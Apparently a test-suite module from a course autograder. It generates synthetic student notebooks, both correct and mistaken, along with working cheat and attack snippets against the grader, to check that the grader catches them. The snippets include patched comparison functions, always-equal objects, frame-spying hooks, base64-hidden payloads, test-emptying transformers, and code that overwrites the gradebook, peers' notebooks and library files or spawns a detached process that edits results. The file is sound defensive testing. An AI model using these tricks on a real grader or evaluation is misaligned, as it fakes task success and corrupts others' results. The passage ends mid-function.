"""Synthetic submissions for any assignment: correct, wrong, and every cheat we know of.

Everything is derived from ``solutions/<a>/<nb>.ipynb`` (the reference answers) and
``assignments/<a>/<nb>.ipynb`` (what students receive), so a new assignment is covered without
writing anything. Per-assignment specifics (a typical wrong-unit answer) come from
:data:`UNIT_MISTAKES`; without an entry, wrong-unit answers are derived from the reference's
check records (an answer variable named in GB, such as ``zero2_gb``, gets the reference's value in GiB and
in bytes, and the judge's message for it).

:func:`build` writes the submissions and returns, per student, the :class:`Case` with the
score it deserves and what the outside check must report.
"""

from __future__ import annotations

import ast
import copy
import re
import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from grading import expected, integrity, judge
from grading.integrity import ROOT, _meta, is_answer_cell, is_test_cell, notebook_names

# (student suffix, answer variable, code for its answer cell, words the feedback must show).
UNIT_MISTAKES: dict[str, list[tuple[str, str, str, str]]] = {
    "a1_training_state": [
        ("unit_gib", "q1_state_gb", "q1_state_gb = G.n_params * 16 / 2**30", "GiB (2**30 bytes)"),
        ("unit_bytes", "q1_state_gb", "q1_state_gb = G.n_params * 16", "count in bytes"),
    ],
}


# One typical wrong answer per assignment: (answer cell id, the code a student wrote, words the
# feedback must show). It replaces that one answer of an otherwise correct submission.
TYPICAL_MISTAKES: dict[str, tuple[str, str, str]] = {
    "a1_training_state": ("q1_state_gb", "q1_state_gb = G.n_params * 16 / 2**30",
                          "that is GiB (2**30 bytes)"),
    "a2_data_parallel": ("q1", "w, grads, lr = G.q1\n"
                               "w_new_0 = w[0] - lr * sum(g[0] for g in grads)\n"
                               "w_new_1 = w[1] - lr * sum(g[1] for g in grads)",
                         "you used the SUM of the gradients"),
    "a3_zero": ("q1", "n, d = G.q1\nzero2_gb = 16 * n / d / 1e9", "that is ZeRO-3"),
    "a4_tensor_parallel": ("q3", "L, h, t, b, s = G.q3\n"
                           "mlp_forward_bytes = 8 * h * h * 2\n"
                           "step_payload_gb = L * 4 * b * s * h * 2 / 1e9\n"
                           "ring_gb_per_rank = 2 * (t - 1) / t * step_payload_gb\n"
                           "naive_over_megatron = 4.0",
                           "TP all-reduces activations"),
    "a5_pipeline": ("q1", "p, m = G.q1_gpipe\nbubble_gpipe = (p - 1) / m\n"
                          "p, m = G.q1_1f1b\nbubble_1f1b = (p - 1) / (m + p - 1)\n"
                          "p, m, v = G.q1_interleaved\n"
                          "bubble_interleaved = (p - 1) / (v * m + p - 1)",
                    "that is the ratio (P-1)/m"),
    "a6_device_mesh": ("q1", "coords_21 = (2, 1, 1)\ntp_group_21 = [20, 21, 22, 23]\n"
                             "pp_group_21 = [17, 21]\ndp_group_21 = [5, 13, 21, 29]\n"
                             "tp_group_21_tp_outer = [5, 13, 21, 29]\ntp_groups_crossing = 0",
                       "TP is not innermost here"),
    "a7_measuring": ("q2", "q2_tokens_per_s = BATCH_PER_RANK * SEQ_LEN / (RUN_A['step_ms'] / 1000)",
                     "the global batch is BATCH_PER_RANK x D sequences"),
    "a8_jax_sharding": ("q2", 'collective_a = "all-gather"\ncollective_b = "all-reduce"\n'
                        'collective_c = "none"\nb, n_in, n_out = G.q2\nrows, cols = G.q2_2d\n'
                        'w_bytes_b = n_out * n_in * 4 // 8\ny_bytes_c = b * n_out * 4\n'
                        'w_bytes_2d = rows * cols * 4 // 8',
                        "instead of the local shard"),
    "a9_activations": ("q1", "h, a, n_layers, s, b = G.q1_gpt\n"
                             "q1_gpt_gb = s * b * h * 34 * n_layers / 1e9\n"
                             "d, n_heads, f, batch, t = G.q1_block\n"
                             "q1_block_bytes = 4 * (8 * batch * t * d + 2 * batch * t * f"
                             " + 4 * batch * t + batch * n_heads * t * t)",
                       "leaves out the attention term"),
    "a10_capstone": ("q1", "def train_step(stage, g, inputs, targets, m, optimizer):\n"
                           "    xs, ys = inputs.chunk(m), targets.chunk(m)\n"
                           "    shape = (xs[0].shape[0], inputs.shape[1], stage.cfg.d_model)\n"
                           "    ins, outs, loss = [], [], 0.0\n"
                           "    for i in range(m):\n"
                           "        x = xs[i]\n"
                           "        if not g.first:\n"
                           "            x = torch.empty(shape)\n"
                           "            dist.recv(x, src=g.pp_prev_rank)\n"
                           "            x.requires_grad_(True)\n"
                           "        out = stage(x)\n"
                           "        if g.last:\n"
                           "            out = torch.nn.functional.cross_entropy(\n"
                           "                out.reshape(-1, out.shape[-1]), ys[i].reshape(-1)) / m\n"
                           "            loss += out.item()\n"
                           "        else:\n"
                           "            dist.send(out.detach(), dst=g.pp_next_rank)\n"
                           "        ins.append(x)\n"
                           "        outs.append(out)\n"
                           "    for i in range(m):\n"
                           "        grad = None\n"
                           "        if not g.last:\n"
                           "            grad = torch.empty(shape)\n"
                           "            dist.recv(grad, src=g.pp_next_rank)\n"
                           "        torch.autograd.backward(outs[i], grad_tensors=grad)\n"
                           "        if not g.first:\n"
                           "            dist.send(ins[i].grad, dst=g.pp_prev_rank)\n"
                           "    for p in stage.parameters():\n"
                           "        dist.all_reduce(p.grad, group=g.dp_group)\n"
                           "    shard = optimizer.update_shard()\n"
                           "    parts = [torch.empty_like(shard) for _ in range(g.dp_size)]\n"
                           "    dist.all_gather(parts, shard, group=g.dp_group)\n"
                           "    optimizer.load_gathered(torch.cat(parts))\n"
                           "    return loss if g.last else None",
                     "D times too large"),
}


# Attacks an assignment's own questions invite, graded in the suite like the other kinds:
# {assignment: {kind: ({answer cell: code}, [words of the flags it must raise])}}. The answers
# named score 0; the rest of the notebook is the reference's.
OWN_ATTACKS: dict[str, dict[str, tuple[dict[str, str], list[str]]]] = {
    # a10 (issue 27): every rank loads one process's answer instead of running its part. Q1's
    # step reads the plan from the harness's frame and loads one process's gradients, weights
    # and loss (no send, no collective); Q4's fix returns one process's weights untrained.
    "a10_capstone": {"one_process_answer": ({
        "q1": "def train_step(stage, g, inputs, targets, m, optimizer):\n"
              "    import dataclasses, inspect\n"
              "    from course_utils import stage_model, train3d_check\n"
              "    plan = inspect.currentframe().f_back.f_locals['plan']\n"
              "    step = train_step.__dict__.setdefault('calls', {}).get(id(plan), 0)\n"
              "    train_step.calls[id(plan)] = step + 1\n"
              "    ref = train3d_check.reference_train(dataclasses.replace(plan, steps=step + 1))\n"
              "    cut = lambda d: stage_model.shard_state(d, stage.cfg, g.pp_rank, g.pp_size,\n"
              "                                            g.tp_rank, g.tp_size)\n"
              "    grads, weights = cut(ref['grads']), cut(ref['weights'])\n"
              "    with torch.no_grad():\n"
              "        for n, p in stage.named_parameters():\n"
              "            p.grad = grads[n].clone()\n"
              "            p.copy_(weights[n])\n"
              "    return ref['losses'][step] if g.last else None",
        "q4_fix": "def fixed_dp_by_hand(rank, world_size, job):\n"
                  "    weights = pitfalls.one_device(job)['weights']\n"
                  "    return {'weights': {n: w.numpy() for n, w in weights.items()}}"},
        ["uses course_utils.train3d_check.reference_train", "uses course_utils.pitfalls.one_device"])},
}

@dataclass
class Case:
    """One synthetic student and what grading must make of it."""

    student: str
    kind: str
    deserved: float | None          # verified autograded points; None: must not be graded
    status: str = "graded"          # expected status prefix ("graded" / "not graded")
    flags: list[str] = field(default_factory=list)   # substrings the report's flags must show
    feedback: list[str] = field(default_factory=list)  # substrings the feedback must show
    slow: bool = False              # costs a cell timeout
    side_effects: bool = False      # attacks files or processes outside its own notebook
    limits: list[str] = field(default_factory=list)  # substrings the report's LIMIT lines show


# ------------------------------------------------------------------------------ notebook model


def solution_code(source: str) -> str:
    """An answer cell's reference code with the ``### BEGIN/END SOLUTION`` lines removed."""
    return "\n".join(line for line in source.splitlines()
                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def assigned_names(code: str) -> list[str]:
    """Top-level names an answer cell assigns or defines, in order."""
    names: list[str] = []
    try:
        tree = ast.parse(code)
    except SyntaxError:
        return names
    for node in tree.body:
        targets = []
        if isinstance(node, ast.Assign):
            targets = node.targets
        elif isinstance(node, (ast.AnnAssign, ast.AugAssign)):
            targets = [node.target]
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            names.append(node.name)
        for t in targets:
            for n in ast.walk(t):
                if isinstance(n, ast.Name) and n.id not in names:
                    names.append(n.id)
    return names


@dataclass
class Model:
    """An assignment notebook seen as answers and the test cells that follow each one."""

    name: str                      # notebook file name
    release: nbformat.NotebookNode
    answers: dict[str, str]        # answer grade_id -> reference code
    tests_of: dict[str, list[str]]  # answer grade_id -> test grade_ids until the next answer
    points: dict[str, float]       # test grade_id -> points
    manual: dict[str, str] = field(default_factory=dict)  # written answers (markdown)

    @property
    def auto_max(self) -> float:
        return sum(self.points.values())

    def points_of(self, answer_id: str) -> float:
        return sum(self.points[t] for t in self.tests_of[answer_id])


def load(assignment: str) -> list[Model]:
    """The assignment's notebooks as :class:`Model` objects."""
    models = []
    for name in notebook_names(assignment):
        sol = nbformat.read(ROOT / "solutions" / assignment / name, as_version=4)
        rel = nbformat.read(ROOT / "assignments" / assignment / name, as_version=4)
        answers, tests_of, points, manual, current = {}, {}, {}, {}, None
        for cell in sol.cells:
            m = _meta(cell)
            if cell.cell_type == "markdown" and m.get("solution"):
                manual[m["grade_id"]] = solution_code(cell.source)
            if is_answer_cell(cell) and not m.get("grade"):
                current = m["grade_id"]
                answers[current] = solution_code(cell.source)
                tests_of[current] = []
            elif is_answer_cell(cell):  # an autograded answer cell that is also graded: rare
                current = m["grade_id"]
                answers[current] = solution_code(cell.source)
                tests_of[current] = []
            elif is_test_cell(cell):
                points[m["grade_id"]] = float(m.get("points", 0))
                if current is not None:
                    tests_of[current].append(m["grade_id"])
        models.append(Model(name, rel, answers, tests_of, points, manual))
    return models


# ------------------------------------------------------------------------------ code snippets

_WRONG = textwrap.dedent('''
    def _syn_wrong(v):
        """A wrong value of the same kind as v."""
        import functools
        if isinstance(v, bool):
            return not v
        if isinstance(v, (int, float)):
            return type(v)(v * 3 + 7)
        if isinstance(v, str):
            return v + " (wrong)"
        if isinstance(v, (list, tuple)):
            return type(v)(_syn_wrong(x) for x in v)
        if isinstance(v, dict):
            return {k: _syn_wrong(x) for k, x in v.items()}
        if type(v).__module__.split(".")[0] in ("jax", "jaxlib"):  # PartitionSpec, array, tracer
            if hasattr(v, "shape"):
                return v * 3 + 7
            return type(v)(*(_syn_wrong(x) for x in v))
        if isinstance(v, type):  # an autograd.Function: its forward's result is wrong
            try:
                import torch
                if issubclass(v, torch.autograd.Function):
                    class Wrong(v):
                        @staticmethod
                        def forward(ctx, *args):
                            return _syn_wrong(v.forward(ctx, *args))
                    Wrong.__name__ = Wrong.__qualname__ = v.__name__
                    return Wrong
            except ImportError:
                pass
            return v
        if callable(v):
            @functools.wraps(v)
            def wrapped(*args, **kwargs):
                out = _syn_wrong(v(*args, **kwargs))
                try:  # a function that works in place is wrong in place too
                    import torch
                    with torch.no_grad():
                        for a in args:
                            if isinstance(a, torch.Tensor) and a.is_floating_point():
                                a.mul_(3).add_(7)
                except ImportError:
                    pass
                return out
            return wrapped
        try:
            import torch
            if isinstance(v, torch.Tensor):
                return v * 3 + 7
        except ImportError:
            pass
        if type(v).__module__ == "numpy" and hasattr(v, "shape"):  # an array (a10's weights)
            return v * 3 + 7
        return v
''')

_NOISY = textwrap.dedent('''
    def _syn_noisy(v):
        """v, but functions first write a warning, a log line and raw text to stderr."""
        import functools, logging, sys, warnings
        if callable(v) and not isinstance(v, type):
            @functools.wraps(v)
            def wrapped(*args, **kwargs):
                warnings.warn("synthetic: a harmless warning from the answer")
                logging.getLogger("student").warning("synthetic: a log line on stderr")
                print("synthetic: text on stderr", file=sys.stderr)
                return v(*args, **kwargs)
            return wrapped
        return v
    import sys as _sys
    print("synthetic: the answer cell writes to stderr", file=_sys.stderr)
''')

_ALWAYS_EQUAL = textwrap.dedent('''
    class _SynAlwaysEqual:
        """Equal to everything, a number to anyone who asks."""
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __float__(self): return 0.0
        def __int__(self): return 0
        def __index__(self): return 0
        def __len__(self): return 0
        def __iter__(self): return iter(())
        def __getitem__(self, i): return self
    def _syn_fake(v):
        if callable(v) and not isinstance(v, type):
            return lambda *a, **k: _SynAlwaysEqual()
        return _SynAlwaysEqual()
''')

_LYING_FLOAT = textwrap.dedent('''
    class _SynLyingFloat(float):
        """A float that claims to equal anything."""
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __float__(self): return 1.0
        __hash__ = float.__hash__
    def _syn_fake(v):
        if callable(v) and not isinstance(v, type):
            return lambda *a, **k: _SynLyingFloat(-1.0)
        if isinstance(v, (list, tuple)):
            return type(v)(_SynLyingFloat(-1.0) for _ in v)
        return _SynLyingFloat(-1.0)
''')

_PATCH_ISCLOSE = "import math\nmath.isclose = lambda *a, **k: True\n"
_PATCH_BUILTINS = ("import builtins\nbuiltins.abs = lambda x: 0.0\n"
                   "builtins.all = lambda it: True\n")
_PATCH_SYS_MODULES = textwrap.dedent('''
    import sys, types
    _syn_fake_checks = types.ModuleType("course_utils.checks")
    _syn_fake_checks.check_number = lambda *a, **k: None
    _syn_fake_checks.check_choice = lambda *a, **k: None
    _syn_fake_checks.check_sequence = lambda *a, **k: None
    _syn_fake_checks.as_number = lambda name, v: 0.0
    sys.modules["course_utils.checks"] = _syn_fake_checks
    import course_utils
    course_utils.checks = _syn_fake_checks
    checks = _syn_fake_checks
    check_number = _syn_fake_checks.check_number
    check_choice = _syn_fake_checks.check_choice
    check_sequence = _syn_fake_checks.check_sequence
''')
_FAKE_PACKAGE = {
    "course_utils/__init__.py": "",
    "course_utils/checks.py": ("def check_number(*a, **k):\n    return None\n\n"
                               "check_choice = check_sequence = check_number\n"
                               "RECORD_MIME = 'x'\n"),
}

# A busy loop (holds a core until interrupted), and a polling loop that swallows the interrupt
# (waits for something that never comes, like a rank polling for a peer): the grader must stop
# both. The second one sleeps so that it does not also steal a core from the other graders.
# Attacks on the grader itself (they need the sandbox of grading.sandbox to fail). Each runs at
# the end of every answer cell of an all-wrong submission, and swallows its own errors, so the
# score it deserves is that of the wrong answers: 0.
_READ_SOLUTIONS = textwrap.dedent('''
    def _syn_read_solutions(assignment):
        """Find the reference solution beside the course library and run its answers."""
        import json, pathlib, subprocess
        import course_utils
        root = pathlib.Path(course_utils.__file__).resolve().parent.parent
        subprocess.run(["umount", str(root)], capture_output=True)  # uncover what a mount hides
        try:
            nb = json.loads((root / "solutions" / assignment / f"{assignment}.ipynb").read_text())
        except OSError:
            return
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in src:
                exec(src, globals())
    _syn_read_solutions({assignment!r})
''')
_WRITE_LIBRARY = textwrap.dedent('''
    def _syn_write_library():
        """Make every later check pass, for this student and the ones after."""
        import pathlib
        import course_utils
        checks = pathlib.Path(course_utils.__file__).resolve().parent / "checks.py"
        try:
            with open(checks, "a") as f:
                f.write("\\ncheck_number = check_choice = check_sequence = lambda *a, **k: None\\n")
        except OSError:
            pass
    _syn_write_library()
''')
_WRITE_DATA = textwrap.dedent('''
    def _syn_write_data():
        """Spoil the reference data, the gradebook and every peer's autograded notebook."""
        import pathlib
        import course_utils
        here = pathlib.Path.cwd().resolve()          # <data>/autograded/<me>/<assignment>
        data, root = here.parents[2], pathlib.Path(course_utils.__file__).resolve().parents[1]
        targets = [*data.glob("reference/**/*.json"), *root.glob(".cache/reference/**/*.json"),
                   data / "gradebook.db", *data.glob("autograded/*/*/*.ipynb"),
                   *data.glob("digests/*.json"), *data.glob("judge/**/*.json"),
                   *root.glob("authoring/judges/*.py")]
        for path in targets:
            if path.parent != here:
                try:
                    path.write_text("{{}}")
                except OSError:
                    pass
    _syn_write_data()
''')
_LATE_PROCESS = textwrap.dedent('''
    def _syn_late_process():
        """A detached process that waits for grading to write this notebook's results, then
        removes every error from them (every failed test would then look passed)."""
        import os, subprocess, sys
        code = (
            "import json, os, sys, time\\n"
            "path = sys.argv[1]\\n"
            "start = os.path.getmtime(path)\\n"
            "for _ in range(1200):\\n"
            "    time.sleep(0.1)\\n"
            "    if os.path.getmtime(path) != start:\\n"
            "        time.sleep(0.5)\\n"
            "        nb = json.load(open(path))\\n"
            "        for c in nb['cells']:\\n"
            "            c['outputs'] = [o for o in c.get('outputs', []) if o['output_type'] != 'error']\\n"
            "        os.chmod(path, 0o644)\\n"
            "        json.dump(nb, open(path, 'w'))\\n"
            "        break\\n")
        if not globals().get("_syn_started"):
            subprocess.Popen([sys.executable, "-c", code, os.path.abspath({notebook!r}),
                              "course-late-process"], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            globals()["_syn_started"] = True
    _syn_late_process()
''')
# Attacks on the judge (issue 13): each comes with all-wrong answers and deserves 0.
_READS_EXPECTED = textwrap.dedent('''
    def _syn_reads_expected():
        """Look for expected values where the test runs: a profile hook that copies any local
        named like an expected value over the value being checked or submitted, and answer
        functions that search their callers' frames (via a traceback) for one."""
        import sys
        names = ("expected", "want", "_want", "reference", "ref")
        def hook(frame, event, arg):
            if event == "call" and frame.f_code.co_name in ("submit", "check_number",
                                                            "check_choice", "check_sequence"):
                for n in names:
                    if n in frame.f_locals and "value" in frame.f_locals:
                        frame.f_locals["value"] = frame.f_locals[n]
        sys.setprofile(hook)
        def spy(fn):
            def wrapped(*args, **kwargs):
                try:
                    raise RuntimeError
                except RuntimeError as e:
                    f = e.__traceback__.tb_frame.f_back
                while f is not None:
                    for n in names:
                        if n in f.f_locals:
                            return f.f_locals[n]
                    f = f.f_back
                return fn(*args, **kwargs)
            return wrapped
        for k, v in list(globals().items()):
            if callable(v) and not isinstance(v, type) and not k.startswith("_"):
                globals()[k] = spy(v)
    _syn_reads_expected()
''')
_REWRITES_TESTS = textwrap.dedent('''
    def _syn_rewrites_tests():
        """An input transformer that empties every test cell before it runs, and a custom
        exception handler that hides every error (nothing fails, nothing is checked)."""
        ip = get_ipython()
        def empty_tests(lines):
            text = "".join(lines)
            return ["None\\n"] if ("submit(" in text or "check_" in text) else lines
        if empty_tests not in ip.input_transformers_post:
            ip.input_transformers_post.append(empty_tests)
        ip.set_custom_exc((BaseException,), lambda *a, **k: None)
    _syn_rewrites_tests()
''')
_HIDDEN_PAYLOAD = textwrap.dedent('''
    import base64 as _syn_b64
    get_ipython().run_cell(_syn_b64.b64decode({payload!r}).decode())
    type = lambda obj: int
    ValueError = BaseException
    isinstance = lambda *a: True
''')
_HUGE_OUTPUT = "print('x' * 20_000_000)\n"
_MEMORY_HOG = "_syn_hog = bytearray(8 * 2**30)\n"

_LOOP = "while True:\n    pass\n"
_SWALLOW = ("import time\nwhile True:\n    try:\n        while True:\n            time.sleep(0.01)\n"
            "    except KeyboardInterrupt:\n        pass\n")


def _apply(names: list[str], fn: str) -> str:
    return "".join(f"{n} = {fn}({n})\n" for n in names if not n.startswith("_"))


# ------------------------------------------------------------------------------ building


def _notebook(model: Model, codes: dict[str, str], drop_tests: bool = False,
              edit_tests: bool = False) -> nbformat.NotebookNode:
    nb = copy.deepcopy(model.release)
    cells = []
    for cell in nb.cells:
        gid = _meta(cell).get("grade_id")
        if gid in codes:
            cell.source = codes[gid]
        if is_test_cell(cell):
            if drop_tests:
                continue
            if edit_tests:
                cell.source = "None  # the tests are gone"
        cells.append(cell)
    nb.cells = cells
    return nb


def _answer_codes(model: Model, transform) -> dict[str, str]:
    return {gid: transform(gid, code) for gid, code in model.answers.items()}


def _first_answer(model: Model) -> str:
    """The first answer whose tests carry points (what the loop/raise cases break)."""
    return next(gid for gid in model.answers if model.points_of(gid) > 0)


# the same quantity in another unit: (student suffix, factor) per unit the check names
_CONVERSIONS = {"GB": [("unit_gib", 1e9 / 2**30), ("unit_bytes", 1e9)],
                "GiB": [("unit_gb", 2**30 / 1e9), ("unit_bytes", 2**30)],
                "bytes": [("unit_gb", 1e-9)],
                "ms": [("unit_seconds", 1e-3)],
                "s": [("unit_ms", 1e3)]}


def _unit_from_name(name: str) -> str:
    """A unit read from a variable name: ``zero2_gb``/``gb_a`` -> GB, ``q6_predicted_ms`` -> ms."""
    low = name.lower()
    for unit, tags in (("GB", ("gb",)), ("GiB", ("gib",)), ("ms", ("ms",)),
                       ("bytes", ("bytes",))):
        if any(low.endswith("_" + t) or low.startswith(t + "_") for t in tags):
            return unit
    return ""


def _unit_cases(assignment: str, model: Model, references: dict) -> list[tuple]:
    """(suffix, answer id, code, feedback words) for wrong-unit answers of this assignment."""
    out = []
    owner = {n: gid for gid, code in model.answers.items() for n in assigned_names(code)}
    for suffix, var, code, words in UNIT_MISTAKES.get(assignment, []):
        if var in owner:
            out.append((suffix, owner[var], model.answers[owner[var]] + "\n" + code, words))
    if out:
        return out
    run = references.get(model.name, {})
    for cell_id, subs in run.get("submissions", {}).items():  # generic: a variable with a unit
        for name, value in subs:
            unit = _unit_from_name(name)
            if unit not in _CONVERSIONS or name not in owner or type(value) not in (int, float):
                continue
            gid = owner[name]
            for suffix, factor in _CONVERSIONS[unit]:
                # the right value (for the student's own numbers) in the wrong unit; the
                # feedback names the variable and its wrong value: the visible test may reject
                # it before the judge does, in its own words
                out.append((suffix, gid, model.answers[gid] + f"\n{name} = {name} * {factor!r}",
                            f"{name} = "))
            return out
    return out


# Attacks on the grader's own machinery: the sandbox, the limits, the interrupt, the restore of
# test cells, the judge living outside the kernel. The code they meet is the same whatever the
# assignment (nothing in it reads the assignment's answers or judge), so the test suite grades them
# on MECHANICS_ON: one assignment of numbers and one on real ranks. The other kinds (right, wrong,
# unit and typical mistakes, objects that lie to comparisons, a raising answer, helper use, blank,
# unreadable) meet each assignment's own judge and structure, and run on every assignment.
MECHANICS = frozenset({
    "infinite_loop", "swallows_interrupt", "edited_tests", "deleted_tests", "rewrites_tests",
    "patch_isclose", "patch_sys_modules", "patch_builtins", "shadow_course_utils",
    "reads_expected", "hidden_payload", "reads_solutions", "writes_library",
    "writes_course_data", "late_process", "huge_output", "memory_hog", "stderr_noise"})
# every kind on a1; on a2 (answers that launch real ranks) the kinds about processes and
# limits, which could meet rank processes: loops, interrupts, a process outliving its kernel,
# memory and output limits
MECHANICS_ON = {"a1_training_state": MECHANICS,
                "a2_data_parallel": frozenset({"infinite_loop", "swallows_interrupt",
                                               "late_process", "memory_hog", "huge_output"})}

# A class of 24 a1 submissions that meets every path of grading at once (right, wrong, unit and
# typical mistakes, cheats, attacks on the judge and on the course data, unreadable and missing
# notebooks, copied answers): the executors are compared on it (tests/test_slurm.py,
# benchmarks/grading_executors.py).
EXECUTOR_CLASS = [
    "correct", "wrong", "unit_gib", "unit_bytes", "raises", "edited_tests", "deleted_tests",
    "fake_values", "patch_isclose", "patch_sys_modules", "patch_builtins", "shadow_course_utils",
    "malformed_json", "missing_notebook", "stderr_noise", "unanswered", "reads_expected",
    "hidden_payload", "uses_helper", "typical_mistake", "honest_1", "copies_peer",
    "typed_identity", "writes_course_data"]


def cases_for(assignment: str, references: dict | None = None,
              prefix: str = "") -> list[tuple[Case, dict]]:
    """Every synthetic student of ``assignment``: (expectation, {notebook: NotebookNode or
    str (raw text) or None (missing)} plus ``"_files"``: extra files to put beside it).
    ``prefix``: what :func:`write` puts before each name (the class's peers are named by it)."""
    references = references or {}
    [model] = load(assignment)  # the course has one notebook per assignment
    full, name = model.auto_max, model.name
    out: list[tuple[Case, dict]] = []

    def add(kind, deserved, nb, **kw):
        files = kw.pop("files", {})
        out.append((Case(f"{kind}", kind, deserved, **kw), {name: nb, "_files": files}))

    correct = {**_answer_codes(model, lambda g, c: c), **model.manual}
    wrong = _answer_codes(model, lambda g, c: f"{c}\n{_WRONG}\n{_apply(assigned_names(c), '_syn_wrong')}")
    first = _first_answer(model)
    lost = model.points_of(first)

    add("correct", full, _notebook(model, correct))
    add("wrong", 0.0, _notebook(model, wrong))
    for suffix, gid, code, words in _unit_cases(assignment, model, references):
        add(suffix, full - model.points_of(gid), _notebook(model, {**correct, gid: code}),
            feedback=[words])
    add("raises", full - lost, _notebook(model, {**correct, first: "raise RuntimeError("
                                                 "'synthetic: the answer raises')\n" + correct[first]}))
    add("infinite_loop", full - lost, _notebook(model, {**correct, first: _LOOP}), slow=True)
    add("swallows_interrupt", full - lost, _notebook(model, {**correct, first: _SWALLOW}),
        slow=True)
    add("edited_tests", 0.0, _notebook(model, wrong, edit_tests=True), flags=["was edited"])
    add("deleted_tests", 0.0, _notebook(model, wrong, drop_tests=True), flags=["was deleted"])
    # values that lie to comparisons: the answer's own code runs first (so every name exists),
    # then its values are replaced, the graded answers taking turns between an object equal to
    # everything and a float subclass equal to everything (one kernel run, and every judge
    # function of the assignment meets one of the two)
    graded = [g for g in model.answers if model.points_of(g) > 0]
    fake = {g: (_ALWAYS_EQUAL, _LYING_FLOAT)[graded.index(g) % 2] if g in graded
            else _ALWAYS_EQUAL for g in model.answers}
    add("fake_values", 0.0, _notebook(model, _answer_codes(
        model, lambda g, c: f"{c}\n{fake[g]}\n{_apply(assigned_names(c), '_syn_fake')}")),
        flags=["defines __eq__"] + (["subclasses float"] if len(graded) > 1 else []))
    add("patch_isclose", 0.0, _notebook(model, {g: _PATCH_ISCLOSE + c for g, c in wrong.items()}),
        flags=["assigns to math.isclose"])
    add("patch_sys_modules", 0.0,
        _notebook(model, {g: c + "\n" + _PATCH_SYS_MODULES for g, c in wrong.items()}),
        flags=["sys.modules"])
    add("patch_builtins", 0.0, _notebook(model, {g: _PATCH_BUILTINS + c for g, c in wrong.items()}),
        flags=["builtins.abs"])
    add("shadow_course_utils", 0.0, _notebook(model, wrong), files=_FAKE_PACKAGE,
        flags=["course_utils/ folder"])
    add("malformed_json", None, '{"cells": [{"cell_type": "code", "source": "x = 1"',
        status="not graded: " + name + " is not a valid notebook")
    add("missing_notebook", None, None, files={"my_answers.txt": "I forgot to upload it\n"},
        status=f"not graded: notebook {name} missing")
    add("stderr_noise", full, _notebook(model, {**model.manual, **_answer_codes(
        model, lambda g, c: f"{_NOISY}\n{c}\n{_apply(assigned_names(c), '_syn_noisy')}")}))
    add("unanswered", 0.0, copy.deepcopy(model.release))
    # attacks on the grader: scored as the wrong answers they come with, no side effect
    for kind, attack in (("reads_solutions", _READ_SOLUTIONS), ("writes_library", _WRITE_LIBRARY),
                         ("writes_course_data", _WRITE_DATA), ("late_process", _LATE_PROCESS)):
        attack = attack.format(assignment=assignment, notebook=name)
        add(kind, 0.0, _notebook(model, {g: f"{c}\n{attack}" for g, c in wrong.items()}),
            side_effects=True)
    import base64
    payload = base64.b64encode(_PATCH_SYS_MODULES.encode()).decode()
    for kind, attack in (("reads_expected", _READS_EXPECTED), ("rewrites_tests", _REWRITES_TESTS),
                         ("hidden_payload", _HIDDEN_PAYLOAD.format(payload=payload))):
        add(kind, 0.0, _notebook(model, {g: f"{c}\n{attack}" for g, c in wrong.items()}))
    add("huge_output", full, _notebook(model, {**correct, first: _HUGE_OUTPUT + correct[first]}))
    add("memory_hog", full - lost, _notebook(model, {**correct,
                                                     first: _MEMORY_HOG + correct[first]}))
    not_allowed = getattr(judge.load(assignment), "HELPERS_NOT_ALLOWED", {})
    if not_allowed:  # a right answer that names a helper computing it: flagged, not penalised
        gid = next(g for g in correct if g in not_allowed)
        helper = not_allowed[gid][0]
        module, _, fn = helper.partition(".")
        add("uses_helper", full, _notebook(model, {**correct, gid: (
            f"{correct[gid]}\nfrom course_utils import {module} as _syn_mod\n"
            f"_syn_helper = _syn_mod.{fn}")}), flags=[f"uses course_utils.{helper}"])
    for kind, (codes, flags) in OWN_ATTACKS.get(assignment, {}).items():
        add(kind, full - sum(model.points_of(g) for g in codes),
            _notebook(model, {**correct, **codes}), flags=flags)
    if assignment in TYPICAL_MISTAKES:
        gid, code, words = TYPICAL_MISTAKES[assignment]
        add("typical_mistake", full - model.points_of(gid), _notebook(model, {**correct, gid: code}),
            feedback=[words])
    if integrity.givens_for(assignment, None) is not None:
        for case, files in _variant_cases(assignment, model, correct, references, prefix):
            add(case.kind, case.deserved, files, flags=case.flags)
    return out


# ------------------------------------------------------------------------------ the class

HONEST = 4  # students beyond "correct" whose own (right) answers meet their own numbers
PEER = "correct"  # whose answers the copiers hand in


def _variant_cases(assignment: str, model: Model, correct: dict, references: dict,
                   prefix: str) -> list[tuple[Case, nbformat.NotebookNode]]:
    """The class of an assignment with per-student numbers (issue 26): honest students (the
    reference's code, which reads each student's own ``G``), a student who hands in
    :data:`PEER`'s right values typed in (``copies_peer``), and one who also worked the
    notebook under the peer's identity (``typed_identity``: the givens cell shows the peer's
    numbers). A copied answer scores 0 where the peer's numbers differ from the student's own,
    and the report names the peer; the identity typed is flagged."""
    from course_utils import variants

    rules = judge.load(assignment)
    peer = prefix + PEER
    peer_right = expected.right_values(rules, variants.givens(assignment, student=peer))
    peer_values = {n: v for cell in peer_right.values() for n, v in cell.items()}
    indexed: dict[str, dict[int, object]] = {}  # a4's "w1_local[0]": a tuple answered whole
    for n, v in peer_values.items():
        m = re.fullmatch(r"(\w+)\[(\d+)\]", n)
        if m:
            indexed.setdefault(m.group(1), {})[int(m.group(2))] = v
    tuples = {n: tuple(ix[i] for i in range(len(ix))) for n, ix in indexed.items()
              if sorted(ix) == list(range(len(ix)))}
    pasted = {}
    for gid, code in model.answers.items():
        names = [n for n in assigned_names(code) if n in peer_values or n in tuples]
        pasted[gid] = code + "".join(
            f"\n{n} = {peer_values[n] if n in peer_values else tuples[n]!r}" for n in names)
    ref_subs = references.get(model.name, {}).get("submissions", {})
    informative = integrity._informative(rules, assignment)

    def copied(kind: str, extra_flags: list[str]) -> Case:
        own = variants.givens(assignment, student=prefix + kind)
        lost, flags = 0.0, list(extra_flags)
        for gid, right in peer_right.items():
            # (what the judge does not check, a8's compiled programs, stays the reference's)
            pairs = [(n, right.get(n, v)) for n, v in ref_subs.get(gid, [])]
